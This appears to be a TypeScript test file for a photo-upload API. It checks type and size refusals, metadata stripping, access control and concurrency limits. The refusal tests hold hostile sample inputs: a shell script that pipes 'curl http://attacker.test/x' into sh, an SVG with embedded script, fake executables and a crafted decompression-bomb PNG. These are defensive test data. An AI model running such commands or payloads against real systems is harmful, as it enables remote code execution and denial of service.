import { readdirSync, statSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { crc32 } from 'node:zlib';
import { PHOTO_LIMIT_PER_SUBJECT, PHOTO_MAX_BYTES } from '@counterpoise/api';
import sharp from 'sharp';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { photos } from '../db/schema';
import { jobsAs, machineOfFamily } from '../jobs/jobs.test-app';
import { type RecordsTestApp, startRecordsTestApp } from '../records/records.test-app';

/*
 * The photo routes over the real app and a temporary SQLite file, with its uploads folder beside it: every
 * refusal is a problem naming the field, and leaves no row and no file; what is stored has no metadata.
 */

let test: RecordsTestApp;
let uploads: string;
let machineId: number;

/** A photo-like image: a gradient with a disc, distinct per `seed`, so that no two are the same bytes. */
async function image(seed: number, format: 'jpeg' | 'png' | 'webp' = 'jpeg', width = 1200, height = 900) {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <defs><linearGradient id="g"><stop offset="0" stop-color="#${(0x335577 + seed * 0x10203).toString(16).slice(-6)}"/>
    <stop offset="1" stop-color="#c0b090"/></linearGradient></defs>
    <rect width="100%" height="100%" fill="url(#g)"/>
    <circle cx="${width / 2}" cy="${height / 2}" r="${height / 3}" fill="#555" stroke="#ddd" stroke-width="12"/>
    <text x="20" y="60" font-size="40" fill="#fff">${seed}</text></svg>`;
  return sharp(Buffer.from(svg)).toFormat(format).toBuffer();
}

/** Every file under the uploads folder, as paths relative to it. */
function storedFiles(): string[] {
  const found: string[] = [];
  const walk = (folder: string, prefix: string) => {
    let entries: string[];
    try {
      entries = readdirSync(folder);
    } catch {
      return;
    }
    for (const entry of entries) {
      const path = join(folder, entry);
      if (statSync(path).isDirectory()) walk(path, `${prefix}${entry}/`);
      else found.push(`${prefix}${entry}`);
    }
  };
  walk(uploads, '');
  return found.sort();
}

function photoRows() {
  return test.temporary.database.orm.select().from(photos).all();
}

function upload(
  token: string,
  path: string,
  bytes: Buffer,
  options: { name?: string; type?: string; field?: string } = {},
) {
  return request(test.app)
    .post(path)
    .set('Authorization', `Bearer ${token}`)
    .attach(options.field ?? 'photo', bytes, {
      filename: options.name ?? 'photo.jpg',
      contentType: options.type ?? 'image/jpeg',
    });
}

beforeAll(async () => {
  test = await startRecordsTestApp();
  uploads = join(dirname(test.temporary.path), 'uploads');
  ({ machineId } = await machineOfFamily(test, test.tokens.owner));
}, 60_000);

afterAll(async () => {
  await test.close();
});

describe('refusals: nothing is stored', () => {
  const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(4096, 0x90)]);
  const windowsProgram = Buffer.concat([
    Buffer.from('MZ'),
    Buffer.alloc(58),
    Buffer.from([0x80, 0, 0, 0]),
    Buffer.alloc(4096),
  ]);
  const script = Buffer.from('#!/bin/sh\ncurl http://attacker.test/x | sh\n');
  const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
  const pdf = Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');

  it.each([
    ['a Linux executable named photo.jpg', elf],
    ['a Windows executable named photo.jpg', windowsProgram],
    ['a shell script named photo.jpg', script],
    ['an SVG named photo.jpg', svg],
    ['a PDF named photo.jpg', pdf],
  ])('refuses %s, sent as image/jpeg, by its content (415 naming photo)', async (_what, bytes) => {
    const before = storedFiles();
    const answer = await upload(test.tokens.technician, `/api/v1/machines/${machineId}/photos`, bytes);
    expect(answer.status, JSON.stringify(answer.body)).toBe(415);
    expect(answer.headers['content-type']).toContain('application/problem+json');
    expect(answer.body.code).toBe('PHOTO_TYPE_NOT_ALLOWED');
    expect(answer.body.errors).toEqual([
      { path: 'photo', message: expect.stringMatching(/JPEG, PNG or WebP/) },
    ]);
    expect(photoRows()).toHaveLength(0);
    expect(storedFiles()).toEqual(before);
  });

  it('refuses a file over the size limit with 413 naming photo', async () => {
    const big = Buffer.concat([
      await image(1),
      Buffer.alloc(PHOTO_MAX_BYTES + 1 - (await image(1)).length, 0),
    ]);
    expect(big.length).toBe(PHOTO_MAX_BYTES + 1);
    const answer = await upload(test.tokens.technician, `/api/v1/machines/${machineId}/photos`, big);
    expect(answer.status, JSON.stringify(answer.body)).toBe(413);
    expect(answer.body).toMatchObject({ code: 'PHOTO_TOO_LARGE', errors: [{ path: 'photo' }] });
    expect(photoRows()).toHaveLength(0);
    expect(storedFiles()).toEqual([]);
  });

  it.each([
    ['JPEG', 'jpeg' as const, 0.6],
    ['JPEG', 'jpeg' as const, 0.97],
    ['PNG', 'png' as const, 0.5],
    ['WebP', 'webp' as const, 0.7],
  ])(
    'refuses a truncated %s (sent as %s, cut to a fraction %s of its bytes) with 400 naming photo',
    async (_name, format, part) => {
      const whole = await image(2, format);
      const cut = whole.subarray(0, Math.floor(whole.length * part));
      const answer = await upload(test.tokens.technician, `/api/v1/machines/${machineId}/photos`, cut, {
        name: `photo.${format}`,
        type: `image/${format}`,
      });
      expect(answer.status, JSON.stringify(answer.body)).toBe(400);
      expect(answer.body).toMatchObject({ code: 'PHOTO_UNREADABLE', errors: [{ path: 'photo' }] });
      expect(photoRows()).toHaveLength(0);
      expect(storedFiles()).toEqual([]);
    },
  );

  it('refuses an image of more pixels than the limit (a decompression bomb)', async () => {
    // A small PNG whose header claims 20,000 × 20,000 pixels (its IHDR rewritten, with a matching CRC).
    const bomb = Buffer.from(
      await sharp(await image(5, 'png', 64, 48))
        .png()
        .toBuffer(),
    );
    bomb.writeUInt32BE(20_000, 16);
    bomb.writeUInt32BE(20_000, 20);
    bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29);
    const answer = await upload(test.tokens.technician, `/api/v1/machines/${machineId}/photos`, bomb, {
      type: 'image/png',
    });
    expect(answer.status, JSON.stringify(answer.body)).toBe(400);
    expect(answer.body.errors[0]).toMatchObject({ path: 'photo', message: expect.stringMatching(/pixels/) });
    expect(photoRows()).toHaveLength(0);
  });

  it('names the wrong field, a second file, a missing file, a long caption and a body that is not a form', async () => {
    const path = `/api/v1/machines/${machineId}/photos`;
    const bytes = await image(3);
    const wrongField = await upload(test.tokens.technician, path, bytes, { field: 'image' });
    expect(wrongField.status).toBe(400);
    expect(wrongField.body.errors).toEqual([
      { path: 'image', message: expect.stringMatching(/field `photo`/) },
    ]);

    const two = await request(test.app)
      .post(path)
      .set('Authorization', `Bearer ${test.tokens.technician}`)
      .attach('photo', bytes, 'a.jpg')
      .attach('photo', await image(4), 'b.jpg');
    expect(two.status).toBe(400);
    expect(two.body.errors[0].path).toBe('photo');

    const none = await request(test.app)
      .post(path)
      .set('Authorization', `Bearer ${test.tokens.technician}`)
      .field('caption', 'No photo here');
    expect(none.status).toBe(400);
    expect(none.body.errors).toEqual([{ path: 'photo', message: 'Attach the photo in the field `photo`.' }]);

    const longCaption = await upload(test.tokens.technician, path, bytes).field('caption', 'x'.repeat(201));
    expect(longCaption.status).toBe(400);
    expect(longCaption.body.errors[0].path).toBe('caption');

    const hidden = await upload(test.tokens.technician, path, bytes).field('caption', 'Left\u202Eend');
    expect(hidden.status).toBe(400);
    expect(hidden.body.errors[0].path).toBe('caption');

    const json = await request(test.app)
      .post(path)
      .set('Authorization', `Bearer ${test.tokens.technician}`)
      .send({ photo: 'data:image/jpeg;base64,AAAA' });
    expect(json.status).toBe(415);
    expect(json.body.errors[0].path).toBe('photo');

    expect(photoRows()).toHaveLength(0);
    expect(storedFiles()).toEqual([]);
  });
});

describe('what is stored', () => {
  it('re-encodes without EXIF or GPS, upright, and serves image and thumbnail with their headers', async () => {
    const withGps = await sharp(await image(10, 'jpeg', 1600, 1200))
      .withExif({
        IFD0: { Make: 'Bench camera', Model: 'Test 1' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '47/1 36/1 0/1',
          GPSLongitudeRef: 'E',
          GPSLongitude: '8/1 30/1 0/1',
        },
      })
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer();
    const sent = await sharp(withGps).metadata();
    expect(sent.exif?.toString('latin1')).toContain('Bench camera');
    expect(sent.orientation).toBe(6);

    const answer = await upload(
      test.tokens.technician,
      `/api/v1/machines/${machineId}/photos`,
      withGps,
    ).field('caption', '  Left end plate  ');
    expect(answer.status, JSON.stringify(answer.body)).toBe(201);
    // Orientation 6 is a quarter turn: the stored image stands upright, 1200 wide and 1600 high.
    expect(answer.body).toMatchObject({
      machineId,
      jobId: null,
      mediaType: 'image/jpeg',
      widthPx: 1200,
      heightPx: 1600,
      caption: 'Left end plate',
      overlayBackground: false,
      calibration: null,
    });

    const served = await request(test.app)
      .get(`/api/v1/photos/${answer.body.id}`)
      .set('Authorization', `Bearer ${test.tokens.viewer}`)
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => done(null, Buffer.concat(chunks)));
      });
    expect(served.status).toBe(200);
    expect(served.headers['content-type']).toBe('image/jpeg');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['cache-control']).toBe('private, max-age=86400');
    const body = served.body as Buffer;
    const stored = await sharp(body).metadata();
    expect(stored.exif).toBeUndefined();
    expect(stored.xmp).toBeUndefined();
    expect(stored.orientation).toBeUndefined();
    expect(body.includes(Buffer.from('Bench camera'))).toBe(false);
    expect([stored.width, stored.height]).toEqual([1200, 1600]);
    const row = photoRows().find((photo) => photo.id === answer.body.id)!;
    expect(served.headers['etag']).toBe(`"${row.sha256}"`);
    expect(storedFiles()).toContain(`${row.sha256.slice(0, 2)}/${row.sha256}.jpg`);

    const again = await request(test.app)
      .get(`/api/v1/photos/${answer.body.id}`)
      .set('Authorization', `Bearer ${test.tokens.viewer}`)
      .set('If-None-Match', served.headers['etag']!);
    expect(again.status).toBe(304);

    const thumbnail = await request(test.app)
      .get(`/api/v1/photos/${answer.body.id}/thumbnail`)
      .set('Authorization', `Bearer ${test.tokens.viewer}`)
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => done(null, Buffer.concat(chunks)));
      });
    expect(thumbnail.status).toBe(200);
    expect(thumbnail.headers['content-type']).toBe('image/webp');
    const small = await sharp(thumbnail.body as Buffer).metadata();
    expect([small.format, small.width, small.height]).toEqual(['webp', 240, 320]);
  });

  it('scales a large photo to 2560 px on its long side, and keeps PNG and WebP in their type', async () => {
    const large = await upload(
      test.tokens.technician,
      `/api/v1/machines/${machineId}/photos`,
      await image(11, 'png', 4000, 3000),
      {
        type: 'image/png',
        name: 'drum.png',
      },
    );
    expect(large.status, JSON.stringify(large.body)).toBe(201);
    expect(large.body).toMatchObject({ mediaType: 'image/png', widthPx: 2560, heightPx: 1920 });
    // Declared as a JPEG, named .jpg: the content says WebP, and WebP it stays.
    const webp = await upload(
      test.tokens.technician,
      `/api/v1/machines/${machineId}/photos`,
      await image(12, 'webp'),
    );
    expect(webp.status).toBe(201);
    expect(webp.body.mediaType).toBe('image/webp');
  });

  it('stores the same content once', async () => {
    const bytes = await image(20);
    const first = await upload(test.tokens.technician, `/api/v1/machines/${machineId}/photos`, bytes);
    const files = storedFiles();
    const second = await upload(test.tokens.manager, `/api/v1/machines/${machineId}/photos`, bytes);
    expect([first.status, second.status]).toEqual([201, 201]);
    expect(second.body.id).not.toBe(first.body.id);
    expect(storedFiles()).toEqual(files);
    const rows = photoRows().filter((row) => [first.body.id, second.body.id].includes(row.id));
    expect(rows[0]!.sha256).toBe(rows[1]!.sha256);
    expect(rows[0]!.thumbnailSha256).toBe(rows[1]!.thumbnailSha256);
  });

  it('changes a caption, removes a photo softly, and then serves it no more', async () => {
    const added = await upload(
      test.tokens.technician,
      `/api/v1/machines/${machineId}/photos`,
      await image(21),
    );
    const auth = `Bearer ${test.tokens.technician}`;
    const changed = await request(test.app)
      .patch(`/api/v1/photos/${added.body.id}`)
      .set('Authorization', auth)
      .send({ caption: 'Right end, after cleaning' });
    expect(changed.status).toBe(200);
    expect(changed.body.caption).toBe('Right end, after cleaning');
    const bad = await request(test.app)
      .patch(`/api/v1/photos/${added.body.id}`)
      .set('Authorization', auth)
      .send({ caption: 'y'.repeat(300) });
    expect(bad.status).toBe(400);
    expect(bad.body.errors[0].path).toBe('caption');
    const viewer = await request(test.app)
      .delete(`/api/v1/photos/${added.body.id}`)
      .set('Authorization', `Bearer ${test.tokens.viewer}`);
    expect(viewer.status).toBe(403);
    const removed = await request(test.app)
      .delete(`/api/v1/photos/${added.body.id}`)
      .set('Authorization', auth);
    expect(removed.status).toBe(204);
    expect(photoRows().find((row) => row.id === added.body.id)?.removedAt).toBeInstanceOf(Date);
    const gone = await request(test.app).get(`/api/v1/photos/${added.body.id}`).set('Authorization', auth);
    expect(gone.status).toBe(404);
    const list = await request(test.app)
      .get(`/api/v1/machines/${machineId}/photos`)
      .set('Authorization', auth);
    expect(list.body.photos.map((photo: { id: number }) => photo.id)).not.toContain(added.body.id);
  });
});

describe('who may', () => {
  it('answers another organisation 404 on list, upload, image, thumbnail, caption, removal and overlay', async () => {
    const added = await upload(
      test.tokens.technician,
      `/api/v1/machines/${machineId}/photos`,
      await image(30),
    );
    expect(added.status).toBe(201);
    const other = `Bearer ${test.otherOwner}`;
    const id = added.body.id as number;
    const calibration = {
      centre: { x: 0.5, y: 0.5 },
      rim: { x: 0.8, y: 0.5 },
      referenceMark: { x: 0.5, y: 0.2 },
    };
    const answers = await Promise.all([
      request(test.app).get(`/api/v1/machines/${machineId}/photos`).set('Authorization', other),
      upload(test.otherOwner, `/api/v1/machines/${machineId}/photos`, await image(31)),
      request(test.app).get(`/api/v1/photos/${id}`).set('Authorization', other),
      request(test.app).get(`/api/v1/photos/${id}/thumbnail`).set('Authorization', other),
      request(test.app).patch(`/api/v1/photos/${id}`).set('Authorization', other).send({ caption: 'Mine' }),
      request(test.app).delete(`/api/v1/photos/${id}`).set('Authorization', other),
      request(test.app)
        .put(`/api/v1/machines/${machineId}/photos/${id}/overlay`)
        .set('Authorization', other)
        .send({ calibration }),
      request(test.app)
        .delete(`/api/v1/machines/${machineId}/photos/${id}/overlay`)
        .set('Authorization', other),
    ]);
    expect(answers.map((answer) => answer.status)).toEqual([404, 404, 404, 404, 404, 404, 404, 404]);
    for (const answer of answers)
      expect(answer.headers['content-type']).toContain('application/problem+json');
    const stored = photoRows().find((row) => row.id === id)!;
    expect(stored.caption).toBeNull();
    expect(stored.removedAt).toBeNull();
  });

  it('lets a viewer look but not add; a job’s photos are its technician’s or a manager’s to add', async () => {
    const viewerUpload = await upload(
      test.tokens.viewer,
      `/api/v1/machines/${machineId}/photos`,
      await image(40),
    );
    expect(viewerUpload.status).toBe(403);
    const viewerList = await request(test.app)
      .get(`/api/v1/machines/${machineId}/photos`)
      .set('Authorization', `Bearer ${test.tokens.viewer}`);
    expect(viewerList.status).toBe(200);

    const job = await jobsAs(test, test.tokens.manager).create({ machineId, scheduledFor: '2026-04-14' });
    expect(job.status, JSON.stringify(job.body)).toBe(201);
    const path = `/api/v1/jobs/${job.body.id}/photos`;
    const technician = await upload(test.tokens.technician, path, await image(41));
    expect(technician.status).toBe(403);
    expect(technician.body.code).toBe('NOT_YOUR_JOB');
    const manager = await upload(test.tokens.manager, path, await image(42)).field(
      'caption',
      'Rotor as found',
    );
    expect(manager.status, JSON.stringify(manager.body)).toBe(201);
    expect(manager.body).toMatchObject({ jobId: job.body.id, machineId: null, caption: 'Rotor as found' });
    const list = await request(test.app).get(path).set('Authorization', `Bearer ${test.tokens.viewer}`);
    expect(list.body.photos.map((photo: { id: number }) => photo.id)).toEqual([manager.body.id]);
    const otherList = await request(test.app).get(path).set('Authorization', `Bearer ${test.otherOwner}`);
    expect(otherList.status).toBe(404);
    // A job's photo is no machine's background.
    const overlay = await request(test.app)
      .put(`/api/v1/machines/${machineId}/photos/${manager.body.id}/overlay`)
      .set('Authorization', `Bearer ${test.tokens.manager}`)
      .send({
        calibration: {
          centre: { x: 0.5, y: 0.5 },
          rim: { x: 0.8, y: 0.5 },
          referenceMark: { x: 0.5, y: 0.2 },
        },
      });
    expect(overlay.status).toBe(404);
  });
});

describe('in parallel', () => {
  it('never stores more than the limit when uploads race for the last places', async () => {
    const { machineId: full } = await machineOfFamily(test, test.tokens.owner);
    const path = `/api/v1/machines/${full}/photos`;
    const first = await upload(test.tokens.technician, path, await image(50));
    expect(first.status).toBe(201);
    const template = photoRows().find((row) => row.id === first.body.id)!;
    const { id: _id, ...copy } = template;
    // Fill all but two places with rows naming the same stored files.
    test.temporary.database.orm
      .insert(photos)
      .values(Array.from({ length: PHOTO_LIMIT_PER_SUBJECT - 3 }, () => copy))
      .run();
    const files = storedFiles();
    const racing = await Promise.all(
      Array.from({ length: 6 }, async (_, index) =>
        upload(test.tokens.technician, path, await image(60 + index)),
      ),
    );
    const statuses = racing.map((answer) => answer.status).sort();
    expect(statuses).toEqual([201, 201, 409, 409, 409, 409]);
    for (const refused of racing.filter((answer) => answer.status === 409)) {
      expect(refused.body.code).toBe('TOO_MANY_PHOTOS');
    }
    const active = photoRows().filter((row) => row.machineId === full && row.removedAt === null);
    expect(active).toHaveLength(PHOTO_LIMIT_PER_SUBJECT);
    // Only the two stored uploads added files: an image and a thumbnail each.
    expect(storedFiles()).toHaveLength(files.length + 4);
    const list = await request(test.app).get(path).set('Authorization', `Bearer ${test.tokens.viewer}`);
    expect(list.body).toMatchObject({ limit: PHOTO_LIMIT_PER_SUBJECT });
    expect(list.body.photos).toHaveLength(PHOTO_LIMIT_PER_SUBJECT);
  });

  it('keeps exactly one overlay background when switches race, and validates the calibration', async () => {
    const { machineId: machine } = await machineOfFamily(test, test.tokens.owner);
    const path = `/api/v1/machines/${machine}/photos`;
    const ids: number[] = [];
    for (let index = 0; index < 5; index++) {
      const added = await upload(test.tokens.technician, path, await image(70 + index));
      ids.push(added.body.id as number);
    }
    const auth = `Bearer ${test.tokens.technician}`;
    const put = (id: number, calibration: unknown) =>
      request(test.app).put(`${path}/${id}/overlay`).set('Authorization', auth).send({ calibration });
    const calibration = {
      centre: { x: 0.5, y: 0.52 },
      rim: { x: 0.82, y: 0.52 },
      referenceMark: { x: 0.5, y: 0.2 },
    };

    const onCentre = await put(ids[0]!, { ...calibration, rim: { x: 0.505, y: 0.52 } });
    expect(onCentre.status).toBe(400);
    expect(onCentre.body.errors).toEqual([
      { path: 'calibration.rim', message: expect.stringMatching(/on the centre/) },
    ]);
    const outside = await put(ids[0]!, { ...calibration, referenceMark: { x: 0.5, y: 1.2 } });
    expect(outside.status).toBe(400);
    expect(outside.body.errors[0].path).toBe('calibration.referenceMark.y');
    expect(photoRows().filter((row) => row.overlayBackground)).toHaveLength(0);

    const answers = await Promise.all([...ids, ...ids].map((id) => put(id, calibration)));
    expect(answers.map((answer) => answer.status)).toEqual(Array(10).fill(200));
    const backgrounds = photoRows().filter((row) => row.machineId === machine && row.overlayBackground);
    expect(backgrounds).toHaveLength(1);
    expect(backgrounds[0]!.calibration).toEqual(calibration);
    const list = await request(test.app).get(path).set('Authorization', auth);
    expect(
      list.body.photos.filter((photo: { overlayBackground: boolean }) => photo.overlayBackground),
    ).toHaveLength(1);

    const unmark = await request(test.app)
      .delete(`${path}/${backgrounds[0]!.id}/overlay`)
      .set('Authorization', auth);
    expect(unmark.status).toBe(204);
    expect(photoRows().filter((row) => row.machineId === machine && row.overlayBackground)).toHaveLength(0);

    // Removing the background leaves the machine without one.
    await put(ids[2]!, calibration);
    await request(test.app).delete(`/api/v1/photos/${ids[2]}`).set('Authorization', auth);
    expect(photoRows().filter((row) => row.machineId === machine && row.overlayBackground)).toHaveLength(0);
  });
});
